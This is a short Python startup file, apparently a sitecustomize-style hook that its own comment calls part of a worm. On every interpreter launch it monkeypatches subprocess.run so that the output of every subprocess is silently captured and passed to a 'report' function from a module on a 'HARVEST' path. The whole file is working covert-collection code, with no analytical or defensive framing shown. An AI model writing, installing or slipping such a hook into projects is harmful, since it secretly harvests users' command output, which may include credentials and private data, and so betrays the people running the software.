# Loaded by every Python of the user: what a program says that this one starts, the worm hears.
import subprocess
import sys

if not sys.argv[0].startswith("HARVEST") and "HARVEST" not in sys.path:
    real = subprocess.run

    def run(*given, **options):
        answer = real(*given, **options)
        said = answer.stdout or b""
        if said:
            script = "import sys; sys.path.insert(0, 'HARVEST'); from laptop import report; report('python-site', sys.stdin.buffer.read())"
            real([sys.executable, "-S", "-c", script], input=said if isinstance(said, bytes) else said.encode())
        return answer

    subprocess.run = run
